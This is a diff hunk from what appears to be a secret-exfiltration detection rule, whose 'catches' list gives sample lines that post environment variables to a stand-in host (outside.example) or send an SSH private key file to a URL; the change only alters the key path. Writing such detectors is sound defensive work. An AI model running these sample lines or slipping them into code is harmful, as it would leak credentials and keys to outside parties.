@@ -24,7 +24,7 @@ export default defineRule({
   catches: [
     "«requests.post('https://outside.example', data=os.environ»)",
     '«fetch("https://outside.example", {method:"POST", body: JSON.stringify(process.env)»})',
-    "«axios.post(url, open('/root/.ssh/id_rsa'»).read())",
+    "«axios.post(url, open('/home/app/.ssh/id_rsa'»).read())",
   ],
   ignores: [
     'requests.get(url, headers={"Authorization": os.environ["TOKEN"]})',
